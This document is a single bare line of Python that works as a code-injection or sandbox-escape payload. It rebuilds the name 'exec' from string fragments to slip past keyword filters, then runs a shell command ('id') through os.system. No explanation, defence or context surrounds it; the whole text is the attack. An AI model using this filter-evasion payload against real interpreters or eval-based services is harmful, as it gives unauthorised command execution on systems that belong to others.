getattr(__builtins__, "ex" + "ec")("import os; os.system('id')")
